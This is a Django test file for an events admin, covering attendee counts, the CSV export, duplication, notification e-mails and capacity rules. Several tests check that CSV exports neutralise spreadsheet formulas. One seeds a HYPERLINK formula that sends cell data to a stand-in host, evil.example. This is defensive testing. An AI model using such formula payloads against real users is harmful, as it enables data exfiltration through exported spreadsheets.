"""Staff run events from the admin: counts in the list, CSV, duplicate, notices on save."""

import csv
import datetime as dt
import io

import pytest
from django.core import mail
from django.urls import reverse

from events import services
from events.models import Booking, Event, EventStatus
from events.tests.factories import EventFactory, EventTypeFactory

pytestmark = pytest.mark.django_db


def test_event_list_shows_confirmed_capacity_and_waiting_in_few_queries(staff_client, django_assert_max_num_queries):
    for n in range(5):
        event = EventFactory(title=f"Évènement {n}", capacity=2)
        services.booking_create(event=event, name="A", email="a@example.org", seats=2)
        services.booking_create(event=event, name="B", email="b@example.org", seats=1)
    with django_assert_max_num_queries(12):
        html = staff_client.get(reverse("admin:events_event_changelist")).content.decode()
    assert html.count("2 / 2") == 5
    assert html.count("1 (1 place)") == 5


def test_csv_export_of_attendees(staff_client):
    event = EventFactory(title="Atelier compost")
    services.booking_create(
        event=event, name="=HYPERLINK(1)", email="x@example.org", seats=2, accessibility_needs="Fauteuil"
    )
    response = staff_client.post(
        reverse("admin:events_event_changelist"), {"action": "export_attendees", "_selected_action": [event.pk]}
    )
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:5] == ["Évènement", "Date", "Nom", "E-mail", "Places"]
    assert rows[1][0] == "Atelier compost" and rows[1][2] == "'=HYPERLINK(1)" and rows[1][4] == "2"
    assert rows[1][6] == "Fauteuil"


def test_no_cell_of_the_attendees_export_is_a_formula(staff_client):
    event = EventFactory(title="-Atelier")
    booking = services.booking_create(
        event=event, name="+cmd", email="ana@example.org", seats=1, accessibility_needs="@SUM(A1:A9)"
    )
    # However it got there (an older import, the admin), a stored e-mail is neutralised too.
    Booking.objects.filter(pk=booking.pk).update(email='=HYPERLINK("https://evil.example/?"&A1)@x.org')
    response = staff_client.post(
        reverse("admin:events_event_changelist"), {"action": "export_attendees", "_selected_action": [event.pk]}
    )
    [_, row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert row[0] == "'-Atelier" and row[2] == "'+cmd" and row[6] == "'@SUM(A1:A9)"
    assert row[3] == '\'=HYPERLINK("https://evil.example/?"&A1)@x.org'
    assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_every_csv_cell_starting_like_a_formula_gets_an_apostrophe():
    from club.csv_export import spreadsheet_cell

    for dangerous in ("=1+1", "+33 6", "-2", "@x", "\tx", "\rx"):
        assert spreadsheet_cell(dangerous) == "'" + dangerous
    assert spreadsheet_cell("Ana") == "Ana" and spreadsheet_cell(2) == "2" and spreadsheet_cell(None) == ""


def test_duplicate_action(staff_client):
    event = EventFactory(title="Atelier vélo")
    staff_client.post(reverse("admin:events_event_changelist"), {"action": "duplicate", "_selected_action": [event.pk]})
    copy = Event.objects.exclude(pk=event.pk).get()
    assert copy.status == EventStatus.DRAFT and "Atelier vélo" in copy.title


def _change_form_data(event, **overrides):
    data = {
        # The texts are written in French and English (events/translation.py).
        "title_fr": event.title,
        "slug": event.slug,
        "type": event.type.pk,
        "status": event.status,
        "summary_fr": event.summary,
        "description_fr": event.description,
        "speakers": "",
        "starts_at_0": event.starts_at.astimezone().strftime("%d/%m/%Y"),
        "starts_at_1": event.starts_at.astimezone().strftime("%H:%M:%S"),
        "ends_at_0": event.ends_at.astimezone().strftime("%d/%m/%Y"),
        "ends_at_1": event.ends_at.astimezone().strftime("%H:%M:%S"),
        "booking_mode": event.booking_mode,
        "capacity": event.capacity,
        "max_seats_per_booking": event.max_seats_per_booking,
        "bookings-TOTAL_FORMS": 0,
        "bookings-INITIAL_FORMS": 0,
        "bookings-MIN_NUM_FORMS": 0,
        "bookings-MAX_NUM_FORMS": 1000,
    }
    return data | overrides


@pytest.fixture
def booked_event(settings):
    settings.TIME_ZONE = "Europe/Paris"
    event = EventFactory(type=EventTypeFactory(), capacity=1)
    services.booking_create(event=event, name="Ana", email="ana@example.org", seats=1)
    services.booking_create(event=event, name="Bob", email="bob@example.org", seats=1)
    mail.outbox.clear()
    return event


def test_staff_cancelling_an_event_emails_everyone(staff_client, booked_event, django_capture_on_commit_callbacks):
    url = reverse("admin:events_event_change", args=[booked_event.pk])
    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(url, _change_form_data(booked_event, status="cancelled"))
    assert response.status_code == 302, response.content.decode()[:2000]
    assert sorted(m.to[0] for m in mail.outbox) == ["ana@example.org", "bob@example.org"]
    assert all("Annulation" in m.subject for m in mail.outbox)


def test_staff_moving_an_event_emails_everyone(staff_client, booked_event, django_capture_on_commit_callbacks):
    later = booked_event.starts_at + dt.timedelta(hours=2)
    url = reverse("admin:events_event_change", args=[booked_event.pk])
    data = _change_form_data(
        booked_event,
        starts_at_1=later.astimezone().strftime("%H:%M:%S"),
        ends_at_0=(later + dt.timedelta(hours=2)).astimezone().strftime("%d/%m/%Y"),
        ends_at_1=(later + dt.timedelta(hours=2)).astimezone().strftime("%H:%M:%S"),
        starts_at_0=later.astimezone().strftime("%d/%m/%Y"),
    )
    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    assert sorted(m.to[0] for m in mail.outbox) == ["ana@example.org", "bob@example.org"]
    assert all("Changement d'horaire" in m.subject for m in mail.outbox)


def test_staff_cannot_shrink_capacity_below_confirmed_seats(staff_client, booked_event):
    url = reverse("admin:events_event_change", args=[booked_event.pk])
    response = staff_client.post(url, _change_form_data(booked_event, capacity=0))
    assert response.status_code == 200
    assert "déjà confirmées" in response.content.decode()


def test_staff_raising_capacity_confirms_the_waiting_list(
    staff_client, booked_event, django_capture_on_commit_callbacks
):
    url = reverse("admin:events_event_change", args=[booked_event.pk])
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(url, _change_form_data(booked_event, capacity=2))
    booked_event.refresh_from_db()
    assert booked_event.seats_confirmed == 2
    assert [m.to[0] for m in mail.outbox] == ["bob@example.org"]


def test_an_event_with_bookings_cannot_be_deleted_only_cancelled(staff_client, booked_event):
    response = staff_client.post(reverse("admin:events_event_delete", args=[booked_event.pk]), {"post": "yes"})
    assert response.status_code == 403
    assert Event.objects.filter(pk=booked_event.pk).exists()
    empty = EventFactory()
    staff_client.post(reverse("admin:events_event_delete", args=[empty.pk]), {"post": "yes"})
    assert not Event.objects.filter(pk=empty.pk).exists()


def test_every_csv_export_goes_through_the_spreadsheet_writer():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    apps = ("club", "events", "listings", "members", "venue")
    sources = [p for app in apps for p in (root / app).rglob("*.py") if "tests" not in p.parts]
    writers = [p for p in sources if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()]
    assert [p.relative_to(root).as_posix() for p in writers] == ["club/csv_export.py"]
